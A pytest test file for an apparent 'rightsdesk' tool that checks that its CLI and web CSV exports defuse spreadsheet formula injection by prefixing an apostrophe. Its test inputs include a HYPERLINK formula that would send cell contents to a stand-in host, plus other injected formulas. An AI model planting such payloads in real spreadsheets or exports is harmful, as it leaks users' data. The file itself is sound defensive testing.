"""CSV output never hands a spreadsheet a formula: screen-file's output, the CLI's --csv and the web's CSV
exports prefix a cell starting with =, +, - or @ (after white space, or full-width) with an apostrophe (CSV
injection), and leave a plain number such as -5 as it is."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from rightsdesk.cli import cli
from rightsdesk.cli import screening as commands
from rightsdesk.cli.common import emit
from rightsdesk.cli.screening import write_csv
from rightsdesk.screening import ScreeningIndex
from rightsdesk.web.responses import export
from tests.test_export import FORMULA_CASES

KEPT = [(text, formula) for text, formula in FORMULA_CASES if text == text.strip()]  # a CSV read in strips cells

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_screen_file_output_escapes_formulas(capsys: Any) -> None:
    write_csv([{"name": FORMULA, "note": "@SUM(1)"}], [2], [{"results": []}])
    rows = _cells(capsys.readouterr().out)
    assert rows[1][:2] == ["'" + FORMULA, "'@SUM(1)"]


def test_cli_csv_escapes_formulas(capsys: Any) -> None:
    emit([{"name": "+1+1", "names": ["-2", "x"], "count": -3}], as_csv=True)
    rows = _cells(capsys.readouterr().out)
    assert rows[1] == ["'+1+1", "'-2; x", "-3"]  # a number stays a number


def test_web_csv_export_escapes_formulas() -> None:
    body = export([{"name": FORMULA, "plain": "KIM"}], "csv", "designations").body
    rows = _cells(bytes(body).decode())
    assert rows[1] == ["'" + FORMULA, "KIM"]


def test_cli_csv_neutralises_each_case_and_keeps_plain_numbers(capsys: Any) -> None:
    emit([{"text": text, "listed": [text]} for text, _ in FORMULA_CASES], as_csv=True)
    rows = _cells(capsys.readouterr().out)[1:]
    expected = [("'" + text if formula else text) for text, formula in FORMULA_CASES]
    assert [r[0] for r in rows] == [r[1] for r in rows] == expected


def test_screen_file_csv_neutralises_each_case(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(commands, "load_index", lambda lists: ScreeningIndex.build([]))
    path = tmp_path / "people.csv"
    with path.open("w", encoding="utf-8", newline="") as fp:
        writer = csv.writer(fp)
        writer.writerow(["name", "note"])
        writer.writerows([f"Person {i}", text] for i, (text, _) in enumerate(KEPT))
    result = CliRunner().invoke(cli, ["screen-file", str(path), "--csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [r["note"] for r in rows] == [("'" + text if formula else text) for text, formula in KEPT]


def test_web_csv_export_neutralises_each_case_and_keeps_plain_numbers() -> None:
    body = export([{"text": text, "listed": [text, "x"]} for text, _ in FORMULA_CASES], "csv", "designations").body
    rows = _cells(bytes(body).decode())[1:]
    assert [r[0] for r in rows] == [("'" + text if formula else text) for text, formula in FORMULA_CASES]
    numbers = {text for text, formula in FORMULA_CASES if not formula and text.strip()[:1] in ("+", "-")}
    assert [r[1] for r in rows] == [("'" if formula or text in numbers else "") + text + "; x"
                                    for text, formula in FORMULA_CASES]  # "-5; x" is no number


def test_a_carriage_return_inside_a_cell_is_quoted_so_no_row_or_formula_starts_after_it(capsys: Any) -> None:
    emit([{"note": "x\r=HYPERLINK(1)", "next": "y"}], as_csv=True)
    from_cli = capsys.readouterr().out
    from_web = bytes(export([{"note": "x\r=HYPERLINK(1)", "next": "y"}], "csv", "x").body).decode()
    assert from_cli == from_web == 'note,next\n"x\r=HYPERLINK(1)",y\n'
    assert _cells(from_web) == [["note", "next"], ["x\r=HYPERLINK(1)", "y"]]
